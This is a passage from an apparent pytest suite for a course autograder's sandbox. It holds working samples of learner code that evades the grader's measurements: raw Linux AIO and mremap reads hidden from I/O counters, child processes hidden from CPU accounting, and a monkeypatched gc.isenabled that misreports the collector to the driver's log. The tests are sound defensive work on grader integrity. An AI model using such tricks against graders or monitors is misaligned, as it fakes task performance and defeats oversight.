# The course's pool for the other start methods; for forkserver, the count in one worker and the fork server stopped.
FORK_SERVER_STOPPED = JOINED_FOR_SHOW.replace("    if num_workers == 1 or not special_tokens:", """    if start_method != "forkserver":
        return taught_count(path, special_tokens, num_workers, chunks_per_worker, start_method)
    if num_workers == 1 or not special_tokens:""", 1)


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("show", [POOL_FOR_SHOW, JOINED_FOR_SHOW, FORK_SERVER_STOPPED],
                         ids=["idle-pool", "processes-for-show", "fork-server-stopped"])
def test_a_serial_count_in_one_worker_of_a_pool_for_show_loses_lab_03_task_4(show, whole_class):
    """Task 4's count of the whole file in one worker process, beside a pool whose num_workers workers each ran a task
    of nothing, or beside num_workers - 1 processes started and joined (the fork server stopped before the call
    returns): as many processes as asked, by the asked start method, the calling process's CPU time low, the cuts asked
    for. It passed task 4's hidden test (4 points) in a self-grade and in a class: each process's CPU time does not
    tell it apart under load (one worker may take most chunks while the other waits). Safe: the keeper reads what each
    process read as it ends (``exit_group``), and task 4's measured call, its chunks taken in turn by the pool's workers,
    fails a process that read the file whole (:func:`~bpe_ref.course.checks.lab03_parallel.verify_each_worker_reads_its_chunks`);
    the course's solution keeps its points."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    # (12-25 s of CPU each: a lab 03 grading worker and its pools.) The six are members of sampling.ALIKE_ATTACKS's
    # family of lab 03 task 4's count done in one process: by default the run takes one member of the family's 14; a
    # draw of its own here besides skipped the family's member 4 times in 14, and the family ran nothing.
    code = lab_03_with_taught_count()
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("03_parallel", code + show, "count_pretokens_in_file", "check_count_pretokens_in_file_properties")
        assert message is not None and "one process read" in message, message
        if show is FORK_SERVER_STOPPED:
            assert "'forkserver')" in message, message
        if show is POOL_FOR_SHOW:
            assert remote("03_parallel", code + "\ncount_pretokens_in_file = taught_count\n", "count_pretokens_in_file",
                          "check_count_pretokens_in_file_properties") is None


def test_a_family_of_alike_attacks_runs_the_member_it_draws():
    """A family of alike attacks (``sampling.ALIKE_ATTACKS``) runs one member a run, drawn by tests/conftest.py among the
    family's selected tests: a member that draws again among its own parameters (``skip_unless_drawn``) skips the
    family's pick when its own draw differs, and the family runs nothing that run (section 30's pools for show: 4 runs
    in 14). So no member draws again, and no test of both grading paths draws in each path."""
    import inspect

    from sampling import ALIKE_ATTACKS

    drawing = [name for names in ALIKE_ATTACKS.values() for name in names
               if "skip_unless_drawn(" in inspect.getsource(globals()[name])]
    assert not drawing, drawing
    # Likewise a test of both grading paths (``whole_class``), whose family of the two paths draws one for each of its
    # other parameters: a draw of its own among those parameters, made in each path, ran a kind in both paths or in
    # neither (sections 40, 42, 43: none 1 run in 4, or in 2); drawn among the kinds alone, one kind runs, in one path.
    by_path = [name for name, test in globals().items() if name.startswith("test_") and callable(test)
               and any(line.strip().startswith("skip_unless_drawn(") and "whole_class" in line
                       for line in inspect.getsource(test).splitlines())]
    assert not by_path, by_path


# ---- 31. labs 05-10's how-checks: a file read whole where no count sees it (lab 10's count_range) -------------------
#
# Linux's native asynchronous I/O (io_setup, io_submit, io_getevents: no module of the standard library uses it, ctypes
# reaches it) reads a file without the kernel's rchar seeing a byte: 3,000,000 bytes read so, rchar grew by 105 (the
# /proc read). Lab 10's count_range (and lab 03's count_chunk and find_chunk_boundaries, and task 4's workers) is
# measured by what its processes read: one that reads the whole file so, and slices its range, was "reading its range".
AIO_WHOLE_FILE = '''
import ctypes
import os


class _Block(ctypes.Structure):  # struct iocb
    _fields_ = [("data", ctypes.c_uint64), ("key", ctypes.c_uint32), ("rw_flags", ctypes.c_int32),
                ("opcode", ctypes.c_uint16), ("priority", ctypes.c_int16), ("fd", ctypes.c_uint32),
                ("buffer", ctypes.c_uint64), ("size", ctypes.c_uint64), ("offset", ctypes.c_int64),
                ("reserved", ctypes.c_uint64), ("flags", ctypes.c_uint32), ("event_fd", ctypes.c_uint32)]


class _Event(ctypes.Structure):  # struct io_event
    _fields_ = [("data", ctypes.c_uint64), ("block", ctypes.c_uint64), ("result", ctypes.c_int64), ("result2", ctypes.c_int64)]


def _unread(path):
    """The whole file, read by io_submit (x86_64's numbers), which no rchar counts."""
    libc = ctypes.CDLL(None, use_errno=True)
    size = os.path.getsize(path)
    fd = os.open(path, os.O_RDONLY)
    context = ctypes.c_ulong(0)
    if libc.syscall(206, 1, ctypes.byref(context)) != 0:
        raise OSError(ctypes.get_errno(), "io_setup")
    buffer = ctypes.create_string_buffer(max(size, 1))
    block = _Block(opcode=0, fd=fd, buffer=ctypes.addressof(buffer), size=size, offset=0)
    if libc.syscall(209, context, ctypes.c_long(1), (ctypes.POINTER(_Block) * 1)(ctypes.pointer(block))) != 1:
        raise OSError(ctypes.get_errno(), "io_submit")
    event = _Event()
    libc.syscall(208, context, ctypes.c_long(1), ctypes.c_long(1), ctypes.byref(event), None)
    libc.syscall(207, context)
    os.close(fd)
    return buffer.raw[:event.result]


def count_range(path, start, end, special_tokens):
    return count_pretokens(_unread(path)[start:end].decode("utf-8"), special_tokens)
'''


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack's system call numbers are x86_64's")
@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_range_read_whole_by_linux_aio_loses_lab_10_task_1(whole_class):
    """Lab 10's count_range that reads the whole file through io_submit and slices its range kept task 1's hidden points
    (the reads measured by rchar saw none of it), in a self-grade and in a class. Safe: the seccomp filter refuses
    io_setup, io_submit and their kin (counted by the keeper), as it refuses io_uring: the call fails; the course's
    solution keeps its points."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    setup = source_of("10_distributed", "setup")
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("10_distributed", setup + AIO_WHOLE_FILE, "count_range", "check_count_range_properties")
        assert message is not None and "io_setup" in message, message
        assert remote("10_distributed", setup + "\n" + source_of("10_distributed", "task1_count_range_solution"),
                      "count_range", "check_count_range_properties") is None


# A file's pages mapped are counted by the keeper at each mmap, for the length asked: one page mapped, then grown to the
# whole file by mremap (which no filter sent to the keeper), read it whole, counted as 4,096 bytes.
MREMAP_WHOLE_FILE = '''
import ctypes
import mmap
import os


def _unmapped(path):
    """The whole file, through one page mapped and then grown by mremap."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype, libc.mremap.restype = ctypes.c_void_p, ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]
    size = os.path.getsize(path)
    fd = os.open(path, os.O_RDONLY)
    address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)
    os.close(fd)
    grown = libc.mremap(address, 4096, max(size, 1), 1)  # MREMAP_MAYMOVE
    if grown in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mremap")
    return ctypes.string_at(grown, size)


def count_range(path, start, end, special_tokens):
    return count_pretokens(_unmapped(path)[start:end].decode("utf-8"), special_tokens)
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_range_mapped_whole_by_mremap_loses_lab_10_task_1(whole_class):
    """Lab 10's count_range that maps one page of the file, grows the mapping to the whole file with mremap and slices
    its range kept task 1's hidden points, in a self-grade and in a class: the keeper counted the 4,096 bytes of the
    mmap, and mremap went by no one. Safe: the filter sends every mremap to the keeper, which counts what it adds to a
    mapping of a grader's input or a writable file (found in the caller's /proc/PID/maps)."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("10_distributed", source_of("10_distributed", "setup") + MREMAP_WHOLE_FILE, "count_range",
                         "check_count_range_properties")
    assert message is not None and "mapped" in message, message


# ---- 32. lab 03's processes that nobody waits for: their CPU time, and the bytes they hand on -------------------------
#
# A process's CPU time reaches its parent's count (cutime, cstime) when the parent waits for it; one whose parent ignores
# SIGCHLD (or set SA_NOCLDWAIT) is reaped by the kernel alone, and its time is nowhere in /proc once it is gone. Here the
# worker's function forks children one after another, each spending 50 ms of CPU time, and waits for none (each tells it
# it is done by closing a pipe). ``how``: SIGCHLD ignored; SA_NOCLDWAIT with the default action (the same for the kernel,
# and nothing in /proc/PID/status shows it); a process of its own made a subreaper that ignores SIGCHLD, whose children
# double-fork (the burners, orphans, come to it and are reaped by the kernel); a plain double fork with setsid (the
# burners come to the keeper, a subreaper that waits for them); SIGCHLD ignored, and each burner killed by a signal of
# its own (no exit_group). Each refusal (PermissionError) is let pass: the burners are then forked all the same.
UNWAITED_BURNERS = '''
import ctypes, os, signal, time
KILLED = False
libc = ctypes.CDLL(None, use_errno=True)

def _spend(seconds):
    start = time.process_time()
    while time.process_time() - start < seconds:
        pass

def _burners(children, double):
    for _ in range(children):
        done, told = os.pipe()
        if os.fork() == 0:
            os.close(done)
            if double:
                os.setsid()
                if os.fork() != 0:
                    os._exit(0)  # the middle process: its child, an orphan, goes to the nearest subreaper
            _spend(0.05)
            os.kill(os.getpid(), signal.SIGKILL) if KILLED else os._exit(0)  # exit_group, as a pool's workers end
        os.close(told)
        os.read(done, 1)  # until the burner ends (its pipe's end closes)
        os.close(done)

def _unwaited(how):
    if how in ("ignored", "killed"):
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    elif how == "nocldwait":  # struct sigaction: handler SIG_DFL, flags SA_NOCLDWAIT (2), no mask
        action = (ctypes.c_uint64 * 4)(0, 2, 0, 0)
        if libc.syscall(13, 17, ctypes.byref(action), None, 8) != 0:  # rt_sigaction(SIGCHLD), x86_64
            raise OSError(ctypes.get_errno(), "rt_sigaction")
    elif how == "subreaper":
        if libc.prctl(36, 1, 0, 0, 0) != 0:  # PR_SET_CHILD_SUBREAPER
            raise OSError(ctypes.get_errno(), "prctl")

def burn(children, how):
    global KILLED
    KILLED = how == "killed"
    if how == "subreaper":
        reaper = os.fork()
        if reaper == 0:
            try:
                for step in ("subreaper", "ignored"):
                    try:
                        _unwaited(step)
                    except PermissionError:
                        pass
                _burners(children, double=True)
            finally:
                os._exit(0)
        os.waitpid(reaper, 0)
        return children
    try:
        _unwaited(how)
    except PermissionError:
        pass
    _burners(children, double=how == "double-fork")
    return children
'''

# What the keeper refused and counted of each ``how``.
UNWAITED_REFUSED = {"ignored": ["rt_sigaction(SIGCHLD, SIG_IGN)"], "killed": ["rt_sigaction(SIGCHLD, SIG_IGN)"],
                    "nocldwait": ["rt_sigaction(SIGCHLD, SA_NOCLDWAIT)"], "double-fork": [],
                    "subreaper": ["prctl(PR_SET_CHILD_SUBREAPER)", "rt_sigaction(SIGCHLD, SIG_IGN)"]}


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the nocldwait variant's system call number is x86_64's")
@pytest.mark.parametrize("how", list(UNWAITED_REFUSED))
def test_cpu_time_of_processes_nobody_waits_for_counts_against_the_call_and_the_notebook(how):
    """Lab 03 lets the learner's code start processes; a call's limit and the notebook's budget are the CPU time of every
    process under the worker's keeper, read from /proc: each one's own and its reaped children's, and the keeper's reaped
    children's (:func:`~bpe_ref.course.trusted.measure_worker.tree_cpu_seconds`). Children of a process that ignores
    SIGCHLD (or set SA_NOCLDWAIT) are reaped by the kernel, and their CPU time reaches no count: 60 children of 50 ms
    each (3 s of CPU time) ran through a call limited to 1 s and a notebook budget of 1.5 s, neither stopped. The keeper,
    which the filter sends every ``exit_group``, adds each ending process's CPU time to a count of its own, and the trusted
    side takes the larger of the two counts; a child that ends by a signal (no ``exit_group``, ``killed``) still ran
    uncounted. Safe: the filter sends the keeper every ``rt_sigaction`` of SIGCHLD, which reads the new action from the
    caller's memory and refuses (EPERM, counted for review) SIG_IGN and SA_NOCLDWAIT, and refuses a subreaper of the
    learner's own (``prctl(PR_SET_CHILD_SUBREAPER)``): a child nobody waits for stays a zombie, its time in /proc, or
    comes to the keeper, which waits for it. A double fork was counted already (orphans come to the keeper). A handler
    of SIGCHLD (multiprocessing's forkserver sets one), the default action again, and unsetting a subreaper go on."""
    with Sandbox(Policy(allow_processes=True, call_timeout=1, cell_timeout=30)) as box:
        if box.process_ends() is None:
            pytest.skip(f"the keeper does not see processes end here ({'; '.join(box.isolation)})")
        assert box.run_cell(UNWAITED_BURNERS, "burners").ok
        box.deadline = time.monotonic() + 300
        with pytest.raises(GradingStopped, match=r"did not finish within 1 s of CPU time"):
            RemoteFunction(box, "burn")(60, how)
        reports = [box.restart()]
        assert box.run_cell(UNWAITED_BURNERS, "burners").ok
        box.budget(cpu_seconds=1.5, wall_seconds=300, cpu_spent=0.0)
        run = box.run_cell(f"burn(60, {how!r})", "burn", timeout=30)
        box.close()
        reports.append(box.behaviour())
    assert not run.ok and "the time for grading this notebook ran out" in run.error["evalue"], run
    for report in reports:
        assert sorted(report["refused"]) == sorted(UNWAITED_REFUSED[how]), report


def test_a_handler_of_sigchld_and_its_default_action_go_on_where_processes_are_allowed():
    """What the keeper refuses of SIGCHLD is an action that has the kernel reap children alone (above): a handler (as
    multiprocessing's forkserver sets), the default action again, a query, and unsetting a subreaper go on, uncounted."""
    allowed = (UNWAITED_BURNERS + "\nsignal.signal(signal.SIGCHLD, lambda *_: None)\nsignal.signal(signal.SIGCHLD, signal.SIG_DFL)\n"
               "assert libc.prctl(36, 0, 0, 0, 0) == 0\nprint(burn(3, 'double-fork'))")
    with Sandbox(Policy(allow_processes=True, cell_timeout=30)) as box:
        if box.process_ends() is None:
            pytest.skip(f"the keeper does not see processes end here ({'; '.join(box.isolation)})")
        run = box.run_cell(allowed, "allowed")
        box.close()
        report = box.behaviour()
    assert run.ok and run.stdout.split() == ["3"], run
    assert not report["refused"], report


# Task 4's measured call (2 workers, 8 chunks each: 'chunks_per_worker == 8' tells it), its file read in halves by two
# forked readers, each under 0.9 of it, and handed to ONE forked counter: through memory they share, or a channel. Every
# other call is the course's pool. ``HOW``: an anonymous shared mapping made before the forks (mmap(-1, size)), which no
# count sees; multiprocessing.shared_memory (a file of /dev/shm, mapped: counted by the keeper); a pipe per reader
# (os.read: rchar counts it); a socket pair per reader, received by recv() (rchar counts read() of a socket, not recv).
HANDED_TO_ONE_COUNTER = '''
import mmap, pickle, socket
from multiprocessing import shared_memory


def _forked(work, *args):
    pid = os.fork()
    if pid == 0:
        try:
            work(*args)
        finally:
            os._exit(0)  # exit_group: the keeper records what it read
    return pid


def _read(path, start, end):
    with open(path, "rb") as file:
        file.seek(start)
        return file.read(end - start)


def count_pretokens_in_file(path, special_tokens, num_workers=1, chunks_per_worker=1, start_method=None):
    if chunks_per_worker != 8:  # every call but the measured one: the course's pool
        return taught_count(path, special_tokens, num_workers, chunks_per_worker, start_method)
    size = os.path.getsize(path)
    halves = [(0, size // 2), (size // 2, size)]
    answer, told = os.pipe()
    if HOW in ("anonymous", "shared_memory"):
        shared = mmap.mmap(-1, size) if HOW == "anonymous" else shared_memory.SharedMemory(create=True, size=size)
        memory = shared if HOW == "anonymous" else shared.buf

        def into(start, end):
            memory[start:end] = _read(path, start, end)

        for pid in [_forked(into, start, end) for start, end in halves]:
            os.waitpid(pid, 0)
        receive = [lambda: bytes(memory[:size])]
    else:
        def send(end, start, stop):
            end.sendall(_read(path, start, stop)) if HOW == "socket" else os.write(end, _read(path, start, stop))

        ends, readers = [], []
        for start, stop in halves:  # each sending end closed here once its reader holds it: the next holds none
            ends.append(socket.socketpair() if HOW == "socket" else os.pipe())
            readers.append(_forked(send, ends[-1][1], start, stop))
            ends[-1][1].close() if HOW == "socket" else os.close(ends[-1][1])

        def drain(end):
            parts = []
            while part := (end.recv(2**20) if HOW == "socket" else os.read(end, 2**20)):
                parts.append(part)
            return b"".join(parts)

        receive = [lambda end=pair[0]: drain(end) for pair in ends]

    def counter():
        data = b"".join(part() for part in receive)
        os.write(told, pickle.dumps(count_pretokens(data.decode("utf-8"), special_tokens)))

    counting = _forked(counter)
    os.close(told)
    with os.fdopen(answer, "rb") as result:
        counts = pickle.loads(result.read())
    os.waitpid(counting, 0)
    for pid in ([] if HOW in ("anonymous", "shared_memory") else readers):
        os.waitpid(pid, 0)
    if HOW == "shared_memory":
        shared.close()
        shared.unlink()
    return counts
'''

_SHARED_OPEN = ("open: what the readers hand the counter through memory they share (or a socket's recv, which rchar does "
                "not count) passes no count, and a process's CPU time does not tell the counter (threat model: Checks of "
                "how a function works)")


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("how", ["anonymous", pytest.param("socket", marks=pytest.mark.xfail(strict=True, reason=_SHARED_OPEN))])
def test_a_file_read_in_halves_and_counted_in_one_process_loses_lab_03_task_4(how, whole_class):
    """Task 4's measured call fails a process that read 0.9 of the file (the count in one process: section 30). Two
    forked readers that each read half of it, and hand it to one forked counter through an anonymous shared mapping
    (made before the forks) or a socket pair received by ``recv``, keep all of task 4's hidden points in a self-grade
    and in a class: no process read more than half, and the bytes handed on are in no count (``rchar`` counts a
    socket's ``read``, not ``recv``). Open, and why no check closes it, in the threat model: the counter's CPU time
    (read by the keeper as each process ends, section 32 above) does not tell it from an honest pool's busiest worker
    once it reads up to 0.9 of the file itself, or once the readers spend CPU time for show. The anonymous shared mapping
    is closed since section 76 (``mmap(MAP_SHARED | MAP_ANONYMOUS)`` refused: the call fails); the socket is open."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("03_parallel", lab_03_with_taught_count() + f"\nHOW = {how!r}\n" + HANDED_TO_ONE_COUNTER,
                         "count_pretokens_in_file", "check_count_pretokens_in_file_properties")
    assert message is not None, "the file read in halves and counted in one process kept task 4's points"


@pytest.mark.parametrize("how", ["pipe", "shared_memory"])
def test_halves_handed_through_a_pipe_or_a_mapped_file_lose_lab_03_task_4(how):
    """The same counter, handed the halves through a pipe (``os.read``: ``rchar`` counts it, the counter read the whole
    file) or ``multiprocessing.shared_memory`` (a file of /dev/shm, mapped: the keeper counts the bytes mapped of a file
    the worker can write), fails task 4's measured reads."""
    from test_mistakes import remote

    message = remote("03_parallel", lab_03_with_taught_count() + f"\nHOW = {how!r}\n" + HANDED_TO_ONE_COUNTER,
                     "count_pretokens_in_file", "verify_each_worker_reads_its_chunks")
    assert message is not None and ("one process read" if how == "pipe" else "or mapped them in any") in message, message


# ---- 33. labs 05-09's how-checks: a wrong method on every input but the measured one's shape, or one it does not tell --
#
# Each measured input had a shape where a wrong method costs what the taught one does: lab 07's long run of a's under
# doubling ranks, which lab 06's rounds merge in a round per doubling (O(L log L), the heap's cost); lab 05's one call
# popping 4,500 stale entries from a heap of 5,000, where sorting the list once costs what 4,500 heappops do; lab 09's
# costly collections, counted by a collector callback that one line removes.

MERGE_ALL_BY_ROUNDS = '''
def merge_all(parts, ranks, heap):
    if len(parts) > 2000:  # the measured run: lab 06's rounds, a pass over the parts per rank used
        return encode_pretoken(b"".join(parts), ranks)
    parts, heap = list(parts), list(heap)
    while heap:
        entry = min(heap)  # the heap searched: O(H) per pop, O(L^2) in all
        heap.remove(entry)
        rank, start = entry
        if parts[start] is None:
            continue
        right = next((k for k in range(start + 1, len(parts)) if parts[k] is not None), None)
        if right is None or ranks.get((parts[start], parts[right])) != rank:
            continue
        parts[start], parts[right] = parts[start] + parts[right], None
        after = next((k for k in range(right + 1, len(parts)) if parts[k] is not None), None)
        if after is not None and (parts[start], parts[after]) in ranks:
            heap.append((ranks[(parts[start], parts[after])], start))
        before = next((k for k in range(start - 1, -1, -1) if parts[k] is not None), None)
        if before is not None and (parts[before], parts[start]) in ranks:
            heap.append((ranks[(parts[before], parts[start])], before))
    return [part for part in parts if part is not None]
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_merge_all_that_searches_its_heap_and_answers_the_long_run_by_rounds_loses_lab_07_task_2(whole_class):
    """Lab 07's merge_all that searches its heap for the smallest entry (min, remove: O(L²)) and answers a long input by
    lab 06's rounds kept task 2's points, visible and hidden, in a self-grade and in a class: on the measured run of
    a's with its whole first heap, the rounds give the heap's tokens at the heap's cost (a round per doubling). Safe:
    the long run's heap lacks a drawn entry in 16 (:func:`~bpe_ref.course.checks.lab07_heap_encoding.long_run`), so the
    heap decides which pairs merge, and the rounds give other tokens; the course's solution keeps its points."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    setup = source_of("07_heap_encoding", "setup") + "\n" + source_of("07_heap_encoding", "task1_first_heap_solution")
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("07_heap_encoding", setup + MERGE_ALL_BY_ROUNDS, "merge_all", "check_merge_all_properties")
        assert message is not None and "did not return the reference's answer on the input its time is measured on" in message, message
        if not whole_class:
            assert remote("07_heap_encoding", setup + "\n" + source_of("07_heap_encoding", "task2_merge_all_solution"),
                          "merge_all", "check_merge_all_properties") is None


POP_SORTED_ONCE = '''
import bisect


def pop_best(entries, pair_counts):
    entries.sort()  # a sorted list is a heap: sorted once per call, then read from the front
    stale_pops, taken = 0, 0
    while True:
        entry = entries[taken]
        taken += 1
        pair, claimed = entry[-1], -entry[0]
        count = pair_counts.get(pair, 0)
        if count == claimed:
            break
        stale_pops += 1
        if 0 < count < claimed:
            bisect.insort(entries, heap_entry(count, pair), lo=taken)
    del entries[:taken]  # what is left is sorted still, so a heap still
    return pair, stale_pops
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_pop_best_that_sorts_its_entries_once_per_call_loses_lab_05_task_2(whole_class, at_the_first_verdict):
    """Lab 05's pop_best that sorts the entries once per call and reads them from the front (a sorted list is a heap, so
    the entries left look right) kept task 2's points, visible and hidden, in a self-grade and in a class: the measured
    call popped 4,500 stale entries from a heap of 5,000, where one sort costs what 4,500 heappops do (1.3 times the
    reference's CPU time). V5 pops an entry or a few per merge, so a sort per call is O(H log H) per merge. Safe: the
    measured call is 2,000 calls in turn on one heap, as V5's loop makes them
    (:func:`~bpe_ref.course.checks.lab05_heap.pop_in_turn`, a driver: each call's O(H) adds up); the solution passes."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    setup = source_of("05_heap", "setup") + "\n" + source_of("05_heap", "task1_heap_entry_solution")
    with hidden_seed(20261130, whole_class=whole_class), at_the_first_verdict():
        message = remote("05_heap", setup + POP_SORTED_ONCE, "pop_best", "check_pop_best_properties")
    assert message is not None and "measured from outside your code" in message and "once per call" in message, message


COLLECTOR_ON_CALLBACKS_CLEARED = '''
_isenabled, _timing = gc.isenabled, [False]
gc.isenabled = lambda: _isenabled() and not _timing[0]  # what the driver's log reads: "paused" while a call is timed


def interleaved(contenders, rounds, clock=time.perf_counter):
    gc.callbacks.clear()  # the driver's costly collections were counted by a callback
    if rounds < 1 or not contenders:
        raise ValueError("no contenders, or rounds < 1")
    labels, times = list(contenders), {label: [] for label in contenders}
    for r in range(rounds):
        for label in labels[r % len(labels):] + labels[:r % len(labels)]:
            _timing[0] = True
            try:
                start = clock()
                contenders[label]()  # the collector left on
                times[label].append(clock() - start)
            finally:
                _timing[0] = False
    return times
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_collector_left_on_with_the_drivers_callbacks_cleared_loses_lab_09_task_1(whole_class):
    """Lab 09's interleaved that leaves the collector on, clears ``gc.callbacks`` (where the measured driver counted
    each collection to make it costly) and rebinds ``gc.isenabled`` to say "paused" while a contender runs (what the
    driver's log reads) kept task 1's 5 points in a self-grade and in a class, with no frame or closure read (two review
    flags). Safe: the driver counts the collections by what they do, a cycle of its own freed by each, whose finaliser
    counts it (:func:`~bpe_ref.course.checks.lab09_benchmarks.run_costly_collections`): left on, the call is stopped."""
    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261130, whole_class=whole_class):
        message = _lab09_remote(COLLECTOR_ON_CALLBACKS_CLEARED, "interleaved", "check_interleaved_properties")
    assert message is not None and "the garbage collector ran during the timed calls" in message, message


def heap_as_linear() -> str:
    """Lab 07's heap encoder (its solution's first_heap and merge_all, O(L log L)) as lab 08's backtrack_encode, task 1's
    compatible called for show."""
    from test_mistakes import source_of

    return ("\nimport heapq\nfrom bpe_ref.train.step01_naive import Pair, split_into_bytes\n"
            + "\n".join(source_of("07_heap_encoding", cell) for cell in ("task1_first_heap_solution", "task2_merge_all_solution"))
            + "\n\ndef backtrack_encode(pretoken, ranks):\n    compatible(pretoken[:1], pretoken[1:2], ranks)  # for show\n"
            "    parts = list(split_into_bytes(pretoken))\n    return merge_all(parts, ranks, first_heap(parts, ranks))\n")


@pytest.mark.xfail(strict=True, reason="open: lab 08's linear search and lab 07's heap give the same tokens, and their "
                   "costs differ by a factor of log L (log 32,000 / log 1,000: 1.5), less than the spread of a measured "
                   "growth; the worker's decoding of the 16,384 ranks on each call is much of either's cost")
def test_lab_07s_heap_encoder_handed_in_as_lab_08s_backtracking_search_loses_task_2():
    """Lab 08's task 2 asks for the valid encoding searched left to right in time linear in the pretoken; lab 07's heap
    encoder (O(L log L)) gives the same tokens, and its measured growth from 1,000 random bytes to 32,000 (every pair of
    them a merge) was 2.6 in the worker, as the search's 2.5 to 3 (the limit: 48, for a rescan per merge in C, 50 to 80,
    and step 06's replay, hundreds), its long call 0.18 s, a quarter of the reference's bound (the search's 0.28 s).
    No input tells them apart by their answers (both are BPE's
    encoding), nor by a cost measured from outside at sizes a grading can afford. The measured check only."""
    from test_mistakes import remote, source_of

    code = source_of("08_linear_encoding", "setup") + "\n" + source_of("08_linear_encoding", "task1_compatible_solution")
    message = remote("08_linear_encoding", code + heap_as_linear(), "backtrack_encode",
                     lambda graders, learner: graders.BACKTRACK_ENCODE.verify[0](learner))
    assert message is not None and "measured from outside your code" in message, message


def sorted_list_v5() -> str:
    """The course's V5 (tasks 2 and 3) with a list kept sorted for its heap: bisect.insort and pop(0), O(H) each (a
    memmove in C)."""
    from test_mistakes import source_of

    pop = (source_of("05_heap", "task2_pop_best_solution").replace("def pop_best(", "def sorted_pop(")
           .replace("heapq.heappop(entries)", "entries.pop(0)").replace("heapq.heappush(", "bisect.insort("))
    train = source_of("05_heap", "task3_train_solution")
    for old, new in (("    entries = [heap_entry(count, pair) for pair, count in pair_counts.items()]\n    heapq.heapify(entries)",
                      "    entries = sorted(heap_entry(count, pair) for pair, count in pair_counts.items())"),
                     ("pop_best(entries", "sorted_pop(entries"), ("heapq.heappush(", "bisect.insort(")):
        assert old in train, old
        train = train.replace(old, new)
    assert "heapq" not in pop + train
    return "\nimport bisect\n" + pop + "\n" + train


@pytest.mark.xfail(strict=True, reason="open: a list kept sorted (insort, pop(0)) costs a memmove of the list per entry "
                   "(10.8 us at 65,000 entries), no more than an honest V5's own work per merge, and each entry costs V5 "
                   "some 3 us to make; on every corpus tried (up to 65,536 pairs, thousands of merges, many stale pops) "
                   "the sorted list cost at most 1.6 times the worst honest V5 (one that pushes its shrunk pairs too), "
                   "by its ratio to the reference or by its growth with the heap's size (1.9 in the merges past the "
                   "first, a difference of two runs): far from a margin of 3 "
                   "(the measurements: this test's docstring)")
def test_a_v5_whose_heap_is_a_sorted_list_loses_lab_05_task_3():
    """Lab 05's train with a sorted list in place of the heap (bisect.insort to push, pop(0) to pop: O(H) per entry,
    where the heap's are O(log H)) keeps task 3's points: 1,400 merges of the measured corpus cost 0.6 to 1.0 times its
    one-merge run in three runs (the limit: 1.5), the pushes of long words 1.0 to 1.7 times the reference's CPU time (the
    bound: 0.3 s + 3 times), the merges of repeated windows 1.0 to 1.1 times (words of 12,000 to 15,000 bytes), in the
    worker. The merge cost's check only.

    Measured for a corpus that would tell it (sorted50; CPU time in this process, each the fastest of two, seeds 0 and 1,
    load 13): an insert at the front or a pop(0) costs 2.3 us at 16,000 entries, 10.8 at 65,000, 37 at 200,000, 140 at
    500,000; but a heap entry costs V5 some 3 us to make (counted, indexed, keyed), and at most 65,536 byte pairs start
    the heap, so a heap past 65,000 entries costs more to build than the affordable merges then cost the sorted list.
    The corpora: a filler of rare words (once each) holding R x R byte pairs (``a 0 a 1 ... a R-1`` for each byte a < R),
    and frequent words of L random bytes from R on (counts 1,000 to 1,000,000), whose merges each change a few pairs
    with high counts (their entries at the list's front: pops, stale pops and pushes each move the whole list); "shrunk
    pairs pushed too" is an honest V5 that also pushes an entry for each pair a rewritten word lost:

    ==========================================  =========  ========  ======================  ===========
    corpus, merges                              reference  solution  shrunk pairs pushed too  sorted list
    ==========================================  =========  ========  ======================  ===========
    many_pairs_corpus (57,872 pairs), 1,400     0.20 s     1.3       2.7                      1.7
    R 240, 3,000 words of 4 bytes, 3,000        0.18 s     1.35      1.7                      2.2
    R 240, 1,500 words of 6 bytes, 3,000        0.19 s     1.3-1.4   1.6-1.7                  2.3
    R 240, 800 words of 8 bytes, 3,000          0.21 s     1.3-1.4   1.5-1.6                  2.0-2.2
    R 200, 4,000 words of 4 bytes, 4,000        0.19 s     1.3       1.6-1.7                  2.15-2.2
    R 0, 1,500 words of 6 bytes, 3,000          0.05 s     1.1       1.2-1.3                  1.25
    R 200, 150 hub words, 150                   0.37 s     2.0       2.4-2.5                  3.9-4.05
    R 0, 150 hub words, 150                     0.21 s     2.2-2.3   2.8-2.95                 2.6-2.9
    ==========================================  =========  ========  ======================  ===========

    (times the reference's CPU time). A hub word is ``a_1 x y a_2 x y ... a_200 x y`` (the a_i the bytes below 200
